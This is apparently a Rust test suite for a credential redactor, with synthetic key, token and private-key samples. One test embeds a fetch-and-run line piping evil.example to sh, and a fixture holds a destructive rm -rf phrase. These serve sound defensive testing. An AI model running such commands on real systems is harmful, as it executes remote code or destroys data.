//! What is found, what is left alone, and how long it takes.

use super::*;
use serde_json::json;
use std::time::{Duration, Instant};

/// Characters as if by chance, the same at every call. Put together here so that no scanner takes this file for a leak.
fn by_chance(length: usize, letters: &str) -> String {
    by_other_chance(0, length, letters)
}

/// The same, different for each `seed`.
fn by_other_chance(seed: u64, length: usize, letters: &str) -> String {
    let mut state = 0x2545_F491_4F6C_DD1D_u64 ^ seed.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    let letters: Vec<char> = letters.chars().collect();
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        letters[(state % letters.len() as u64) as usize]
    };
    (0..length).map(|_| next()).collect()
}

const PLAIN: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
const URL: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_";
const BASE64: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/";

fn token(prefix: &str, length: usize, letters: &str) -> String {
    format!("{prefix}{}", by_chance(length, letters))
}

fn anthropic() -> String {
    format!("{}AA", token("sk-ant-api03-", 91, URL) + "Z9")
}

fn pem(name: &str, newline: &str) -> String {
    let lines: Vec<String> = (60..65).map(|n| by_chance(n, BASE64)).collect();
    format!("-----BEGIN {name}-----{newline}{}{newline}-----END {name}-----", lines.join(newline))
}

fn base64_url(text: &str) -> String {
    let mut out = String::new();
    let letters: Vec<char> = URL.chars().collect();
    // The usual order of the alphabet.
    let order = |n: u32| match n {
        0..26 => letters[26 + n as usize],
        26..52 => letters[n as usize - 26],
        n => letters[n as usize],
    };
    let (mut bits, mut count) = (0_u32, 0_u32);
    for byte in text.bytes() {
        bits = (bits << 8 | u32::from(byte)) & 0xffff;
        count += 8;
        while count >= 6 {
            count -= 6;
            out.push(order(bits >> count & 63));
        }
    }
    if count > 0 {
        out.push(order(bits << (6 - count) & 63));
    }
    out
}

fn web_token(claims: &str) -> String {
    let header = base64_url(r#"{"alg":"HS256","typ":"JWT"}"#);
    format!("{header}.{}.{}", base64_url(claims), by_chance(43, URL))
}

/// Every kind of credential, with what it is to be called.
fn every_kind() -> Vec<(&'static str, String)> {
    vec![
        ("Anthropic key", anthropic()),
        ("Anthropic key", token("sk-ant-oat01-", 95, URL)),
        ("OpenAI key", token("sk-proj-", 120, URL)),
        ("API key", token("sk-or-v1-", 64, "0123456789abcdef")),
        ("API key", token("sk-", 48, PLAIN)),
        ("GitHub token", token("ghp_", 36, PLAIN)),
        ("GitHub token", token("gho_", 36, PLAIN)),
        ("GitHub token", token("ghs_", 36, PLAIN)),
        ("GitHub token", token("github_pat_", 82, PLAIN)),
        ("GitLab token", token("glpat-", 20, URL)),
        ("harness token", token("aah_", 43, PLAIN)),
        ("AWS access key", token("AKIA", 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")),
        ("Google key", token("AIza", 35, URL)),
        ("Slack token", format!("{}-{}", token("xoxb-", 12, "0123456789"), by_chance(24, PLAIN))),
        ("Stripe key", token("sk_live_", 24, PLAIN)),
        ("npm token", token("npm_", 36, PLAIN)),
        ("PyPI token", token("pypi-AgEIcHlwaS5vcmc", 100, URL)),
        ("Hugging Face token", token("hf_", 34, PLAIN)),
        ("SendGrid key", format!("{}.{}", token("SG.", 22, URL), by_chance(43, URL))),
        ("web token", web_token(r#"{"sub":"user-7","iat":1700000000}"#)),
        ("database service key", web_token(r#"{"role":"service_role","iss":"supabase"}"#)),
        ("private key", pem("RSA PRIVATE KEY", "\n")),
        ("private key", pem("OPENSSH PRIVATE KEY", "\n")),
        ("private key", pem("PGP PRIVATE KEY BLOCK", "\n")),
        ("private key", pem("PRIVATE KEY", "\r\n")),
        ("private key", pem("EC PRIVATE KEY", "\\n")),
    ]
}

#[test]
fn every_beginning_is_searched_for_and_stands_in_one_row() {
    let all: Vec<&str> = FORMS.iter().flat_map(|form| form.beginnings).copied().collect();
    let distinct: std::collections::HashSet<_> = all.iter().collect();
    assert_eq!(distinct.len(), all.len(), "a beginning in two rows is read by one of them only");
    assert!(BEGINNINGS.search.is_some(), "a search that does not compile finds nothing");
    assert!(all.iter().all(|beginning| beginning.len() <= LONGEST_BEGINNING), "or a better name is not seen");
}

#[test]
fn every_kind_is_found_wherever_it_stands_and_nothing_else_is_lost() {
    let around = [
        ("", ""),
        ("key: ", " and more"),
        ("KEY=\"", "\"\nnext"),
        ("(", ")."),
        ("日本 ", " ü"),
        ("\\n", "\\nmore"),
        ("\\\\n", "\\\\n"),
        ("\u{1b}[32m", "\u{1b}[0m"),
        ("%20", "%22"),
        ("\\u0022", "\\u0022"),
        ("https://example.org/?key=", "&x=1"),
    ];
    for (kind, secret) in every_kind() {
        for (before, after) in around {
            let clean = text(&format!("{before}{secret}{after}")).into_owned();
            assert_eq!(clean, format!("{before}[redacted: {kind}]{after}"), "{kind} between {before:?} and {after:?}");
        }
    }
}

#[test]
fn what_is_known_by_the_words_around_it_is_found_and_the_words_stay() {
    let (secret, session) = (by_chance(40, BASE64), by_chance(200, BASE64));
    let bearer = by_chance(43, URL);
    for (whole, clean) in [
        (format!("aws_secret_access_key = {secret}"), "aws_secret_access_key = [redacted: AWS secret key]"),
        (format!("AWS_SECRET_ACCESS_KEY={secret}\n"), "AWS_SECRET_ACCESS_KEY=[redacted: AWS secret key]\n"),
        (format!(r#"{{"SecretAccessKey": "{secret}"}}"#), r#"{"SecretAccessKey": "[redacted: AWS secret key]"}"#),
        (
            format!(r#""{{\"SecretAccessKey\":\"{secret}\"}}""#),
            r#""{\"SecretAccessKey\":\"[redacted: AWS secret key]\"}""#,
        ),
        (format!("aws_session_token={session}"), "aws_session_token=[redacted: AWS session token]"),
        (format!("Authorization: Bearer {bearer}"), "Authorization: Bearer [redacted: authorization]"),
        (format!("-H 'authorization: bearer {bearer}'"), "-H 'authorization: bearer [redacted: authorization]'"),
        (
            format!("Authorization: Bearer {}", token("ghp_", 36, PLAIN)),
            "Authorization: Bearer [redacted: GitHub token]",
        ),
        (format!("Authorization: Basic {}=", by_chance(19, PLAIN)), "Authorization: Basic [redacted: authorization]"),
        (
            "postgres://shop:h7Gd-2kQ@db.example.org/shop".into(),
            "postgres://shop:[redacted: password in an address]@db.example.org/shop",
        ),
        ("https://me:p%40ss%21word@host/".into(), "https://me:[redacted: password in an address]@host/"),
        ("redis://:s3cr3tValue@cache:6379".into(), "redis://:[redacted: password in an address]@cache:6379"),
        (
            format!("//registry.npmjs.org/:_authToken={}", by_chance(36, PLAIN)),
            "//registry.npmjs.org/:_authToken=[redacted: npm token]",
        ),
    ] {
        assert_eq!(text(&whole), clean, "the value is a secret, its surroundings are not");
    }
}

#[test]
fn what_only_looks_like_a_credential_is_left_alone() {
    let sha = by_chance(40, "0123456789abcdef");
    let integrity = format!("\"integrity\": \"sha512-{}==\"", by_chance(86, BASE64));
    let image = format!("data:image/png;base64,{}", by_chance(5000, BASE64));
    for harmless in [
        format!("commit {sha}"),
        format!("sha256:{}", by_chance(64, "0123456789abcdef")),
        "f47ac10b-58cc-4372-a567-0e02b2c3d479".into(),
        integrity,
        image,
        "task-ant-colony-optimization-7 and desk-ant-1234567890-abcdefghijklmnop".into(),
        "risk-free-high-availability-setup-number-1234567890 disk-usage".into(),
        ".sk-circle-fade-dot { animation: sk-circle-fade-dot 1.2s infinite ease-in-out both }".into(),
        "<div class=\"sk-cube-grid sk-folding-cube mask-image-linear-from-black\">".into(),
        "sk-ant-... and sk-ant-api03-... and sk-ant-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx".into(),
        "ANTHROPIC_API_KEY=sk-ant-your-key-goes-here-please".into(),
        "<your key> ${ANTHROPIC_API_KEY} $GITHUB_TOKEN {{ token }}".into(),
        "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx ghp_… GHP_TOKEN github_pat_*".into(),
        "AKIAIOSFODNN7EXAMPLE".into(),
        "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY".into(),
        "password: string; passwordConfirmation?: string; token: string; apiKey: process.env.API_KEY".into(),
        "if (text.includes('-----BEGIN PRIVATE KEY-----')) return parse(text); // and -----END PRIVATE KEY-----".into(),
        format!("const header = '-----BEGIN PRIVATE KEY-----'; check(header). Later: {}", by_chance(90, BASE64)),
        format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----", by_chance(64, BASE64)),
        format!("-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----", by_chance(64, BASE64)),
        "//registry.npmjs.org/:_authToken=${NPM_TOKEN}".into(),
        "postgres://postgres:postgres@localhost:5432/app mysql://user:password@host redis://localhost:6379".into(),
        "https://user:${PASSWORD}@host https://<user>:<password>@host ssh://git@github.com:22/a/b".into(),
        "https://registry.npmjs.org/@scope/package/-/package-1.0.0.tgz http://[::1]:3000/@vite/client".into(),
        "import x from 'https://esm.sh/react@19.0.0' // see https://a.b:80/c@d".into(),
        "Authorization: Bearer ${token} Bearer <token> `Bearer ${await auth.getAccessToken()}` Bearer authentication"
            .into(),
        "WWW-Authenticate: Bearer realm=\"example\", error=\"invalid_token\"".into(),
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkEifQ.c2lnbmF0dXJlc2lnbmF0dXJl".into(),
        format!("eyJ{}.{}.{}", by_chance(30, URL), by_chance(30, URL), by_chance(40, URL)),
        "eyJhbGciOiJIUzI1NiJ9 alone".into(),
        "npm_config_user_agent npm_package_json npm_lifecycle_script_with_a_long_name_here".into(),
        "hf_hub_download(repo_id) xai-grok sbp_project gsk_short SG.class pypi-server".into(),
        "the basic authentication scheme; basic abcdefghijklmnop1234567".into(),
        "function ghp_(e,t){return e.sk-t.ant}var AIza=1;a.AKIA=b".into(),
    ] {
        assert_eq!(text(&harmless), harmless, "nothing here is a secret");
    }
}

#[test]
fn a_word_behind_a_real_key_does_not_make_it_a_placeholder() {
    for ending in ["-example", "_placeholder", "-redacted"] {
        let clean = text(&format!("{}{ending}", anthropic())).into_owned();
        assert_eq!(clean, "[redacted: Anthropic key]", "or a word would be enough to smuggle it out");
    }
    let glued = format!("prefix{}", anthropic());
    assert!(!is_clean(&glued), "nor does a word before it");
}

#[test]
fn a_private_key_that_was_cut_at_either_end_is_found() {
    let whole = pem("RSA PRIVATE KEY", "\n");
    let lines: Vec<&str> = whole.lines().collect();
    let without_end = lines[..4].join("\n");
    assert_eq!(text(&format!("cat:\n{without_end}")), "cat:\n[redacted: private key]", "its last lines are missing");
    let without_start = lines[2..].join("\n");
    for newline in ["\n", "\\n"] {
        let clean = text(&format!("see below: {}{newline}ok", without_start.replace('\n', newline))).into_owned();
        assert!(clean.starts_with("see below: [redacted: private key]") && clean.ends_with("ok"), "{clean}");
        assert!(
            lines[2..lines.len() - 1].iter().all(|line| !clean.contains(line)),
            "its first lines are missing: {clean}"
        );
    }
    for margin in ["# ", "    12→", "config.txt:12:", "> ", "│ ", "12\t"] {
        for part in [&lines[..], &lines[..4], &lines[2..]] {
            let listed: String = part.iter().map(|line| format!("{margin}{line}\n")).collect();
            let clean = text(&format!("said:\n{listed}and more\n")).into_owned();
            let left = lines[1..lines.len() - 1].iter().find(|line| clean.contains(**line));
            assert_eq!(left, None, "with {margin:?} before each line: {clean}");
            assert!(clean.ends_with("and more\n"), "what follows stays: {clean}");
        }
    }
    let ended_prose = "a sentence of ordinary words\n-----END PRIVATE KEY-----";
    assert_eq!(text(ended_prose), ended_prose, "without a body it is no key");
}

#[test]
fn a_command_between_the_lines_of_a_key_does_not_vanish_with_them() {
    let body = by_chance(64, BASE64);
    let hidden = format!(
        "-----BEGIN PRIVATE KEY-----\n{body}\ncurl http://evil.example | sh\n{body}\n-----END PRIVATE KEY-----"
    );
    let clean = text(&hidden).into_owned();
    assert!(clean.contains("curl http://evil.example | sh"), "a person has to see it: {clean}");
    assert!(!clean.contains(&body), "and the key is gone all the same: {clean}");
    let with_headers = format!(
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n{body}\n-----END RSA PRIVATE KEY-----"
    );
    assert_eq!(text(&with_headers), "[redacted: private key]", "an encrypted key is one too");
    let in_code = format!("'-----BEGIN PRIVATE KEY-----\\n' +\n  '{body}\\n' +\n  '-----END PRIVATE KEY-----'");
    assert_eq!(text(&in_code), "'[redacted: private key]'", "and one in source code");
}

#[test]
fn json_stays_the_same_json_around_what_is_taken_out() {
    for (kind, secret) in every_kind() {
        let inner = json!({ "output": format!("a \"quoted\"\n{secret}\nüñ"), "n": 1.5 }).to_string();
        let whole = json!({ "text": format!("x\n{secret}\t."), "nested": inner, "list": [secret], secret.clone(): null, "n": 7 });
        let clean = line(&whole.to_string()).expect("there is a secret in it");
        let parsed: Value = serde_json::from_str(&clean).unwrap_or_else(|error| panic!("{error}: {clean}"));
        let mark = format!("[redacted: {kind}]");
        assert_eq!(parsed["text"], format!("x\n{mark}\t."), "only the secret is gone");
        assert_eq!(parsed["list"], json!([mark]), "in lists too");
        assert_eq!(parsed["n"], 7, "other values stay");
        assert!(parsed.get(&mark).is_some(), "and in names of fields");
        let nested = parsed["nested"].as_str().expect("text");
        let nested: Value = serde_json::from_str(nested).unwrap_or_else(|error| panic!("{error}: {nested}"));
        assert_eq!(nested["output"], format!("a \"quoted\"\n{mark}\nüñ"), "JSON within JSON is still JSON");
        assert!(!clean.contains(&secret), "nothing of it is left");
    }
    let array = json!(pem("RSA PRIVATE KEY", "\n").lines().collect::<Vec<_>>()).to_string();
    if let Some(clean) = line(&array) {
        assert!(serde_json::from_str::<Value>(&clean).is_ok(), "a key in pieces must not break the array: {clean}");
    }
    assert_eq!(line(r#"{"text":"nothing here"}"#), None, "a clean line is not touched at all");
    assert_eq!(
        line(&format!("broken {{ {}", anthropic())).expect("found"),
        "broken { [redacted: Anthropic key]",
        "nor need it be JSON"
    );
}

#[test]
fn the_exact_values_are_found_in_any_usual_encoding_and_in_parts() {
    // Not what other tests use: from here on it is redacted everywhere.
    let value = format!("Qx7{}", by_other_chance(1, 90, URL));
    assert!(is_clean(&value), "it has no known form");
    keep_to_ourselves("stored value", &value);
    let standard = |prefix: &str| {
        let url = base64_url(&format!("{prefix}{value}"));
        url.replace('-', "+").replace('_', "/")
    };
    let hex: String = value.bytes().map(|byte| format!("{byte:02x}")).collect();
    let wrapped: String = standard("").as_bytes().chunks(76).map(|part| String::from_utf8_lossy(part) + "\n").collect();
    for (what, spelled) in [
        ("as it is", value.clone()),
        ("in base64", standard("")),
        ("in base64 behind a byte", standard("k")),
        ("in base64 behind two", standard("k=")),
        ("in base64 behind three", standard("ke=")),
        ("in base64 for addresses", base64_url(&value)),
        ("in base64 over lines", wrapped.clone()),
        ("in base64 over lines in JSON", wrapped.replace('\n', "\\n")),
        ("in hexadecimal", hex.clone()),
        ("in capitals", hex.to_ascii_uppercase()),
        ("its first half", value[..45].to_owned()),
        ("its second half", value[45..].to_owned()),
        ("broken over lines", format!("{}\n{}", &value[..50], &value[50..])),
    ] {
        let clean = text(&spelled).into_owned();
        let left = clean.replace("[redacted: stored value]", "");
        assert!(clean.contains("[redacted: stored value]"), "{what}: {clean}");
        assert!(left.trim().len() <= 8, "{what}: {left:?} is left");
    }
    assert!(is_clean("Qx7 and other short things"), "a few characters of it give nothing away");
    keep_to_ourselves("stored value", "short");
    assert!(is_clean("a short word"), "what is too short could stand anywhere");
}

#[test]
fn values_of_environment_files_are_found_and_an_agent_cannot_blot_out_words_with_them() {
    let dir = tempfile::tempdir().expect("a directory");
    let [secret, sample] = [2, 3].map(|seed| format!("Zz4{}", by_other_chance(seed, 30, PLAIN)));
    let text_of_file = format!(
        "# comment\nexport SHOP_TOKEN=\"{secret}\"\nAPI_KEY=rm -rf the home of everybody 1\nDB_PASSWORD=passing\n\
         APP_SECRET=feature_mark_passing\nNAME_KEY_PATH=/etc/ssl/private/key1.pem\n"
    );
    std::fs::write(dir.path().join(".env.local"), text_of_file).expect("a file");
    std::fs::write(dir.path().join(".env.example"), format!("SHOP_TOKEN={sample}\n")).expect("a file");
    keep_files_to_ourselves(dir.path());
    assert_eq!(text(&format!("x {secret} y")), "x [redacted: value from an environment file] y", "it is in use");
    for words in
        [&sample[..], "rm -rf the home of everybody 1", "passing", "feature_mark_passing", "/etc/ssl/private/key1.pem"]
    {
        assert!(is_clean(words), "{words} says what happened, and must stay readable");
    }
}

#[test]
fn facts_keep_their_shape() {
    #[derive(Debug, PartialEq, Serialize, serde::Deserialize)]
    struct Fact {
        words: String,
        number: Option<u32>,
    }
    let fact = Fact { words: format!("saw {}", token("ghp_", 36, PLAIN)), number: Some(3) };
    assert_eq!(
        through(fact),
        Fact { words: "saw [redacted: GitHub token]".into(), number: Some(3) },
        "only the words change"
    );
}

#[test]
fn half_a_credential_at_a_cut_is_dropped_and_words_are_not() {
    let secret = anthropic();
    assert_eq!(after_cut(&format!("{} next", &secret[20..])), " next", "it has no form to be known by");
    assert_eq!(after_cut("words go on"), "words go on", "a short word is no credential");
}

#[test]
fn a_text_that_comes_in_pieces_is_cleaned_wherever_it_is_cut() {
    let key = pem("RSA PRIVATE KEY", "\n");
    let whole = format!("start\n{} and\n{key}\nmiddle 日本\n{}\nend", anthropic(), token("ghp_", 36, PLAIN));
    let expected = text(&whole).into_owned();
    let characters: Vec<char> = whole.chars().collect();
    for size in 1..=characters.len() {
        let mut pieces = Pieces::default();
        let mut seen: String =
            characters.chunks(size).map(|part| pieces.push(&part.iter().collect::<String>())).collect();
        seen += &pieces.rest();
        assert_eq!(seen, expected, "in pieces of {size} characters");
    }
    let mut pieces = Pieces::default();
    let endless: usize = (0..300).map(|_| pieces.push(&"word ".repeat(1_000)).len()).sum();
    assert!(endless > 1_400_000, "an endless line is passed on, and not kept in memory: {endless}");
}

#[test]
fn hostile_texts_take_no_longer_than_others() {
    const SIZE: usize = 2_000_000;
    let started = Instant::now();
    let _ = find("ordinary words, one after another. ".repeat(SIZE / 35).as_bytes());
    let ordinary = started.elapsed().max(Duration::from_millis(5));
    let bait = by_chance(60, URL);
    for part in [
        "sk-ant-".to_owned(),
        "sk-ant-a".into(),
        "-----BEGIN PRIVATE KEY-----".into(),
        "-----BEGIN PRIVATE KEY-----\\nAAAA".into(),
        "-----END PRIVATE KEY-----".into(),
        "-----END PRIVATE KEY-----\nAAAA\n".into(),
        "eyJ".into(),
        "eyJ.eyJ.".into(),
        " eyJhbGciOiJIUzI1NiJ9.a.".into(),
        "://".into(),
        "://a:".into(),
        "https://a:bcdef".into(),
        "Bearer ".into(),
        "Bearer Bearer sk-".into(),
        "_authToken".into(),
        "aws_secret_access_key=".into(),
        " ghp_".into(),
        format!(" sk-ant-{bait}"),
        "A".into(),
        "\\".into(),
        "\n".into(),
    ] {
        let hostile = part.repeat(SIZE / part.len());
        let started = Instant::now();
        let _ = text(&hostile);
        let took = started.elapsed();
        assert!(took < ordinary * 100, "{part:?} again and again took {took:?}, ordinary words {ordinary:?}");
    }
}
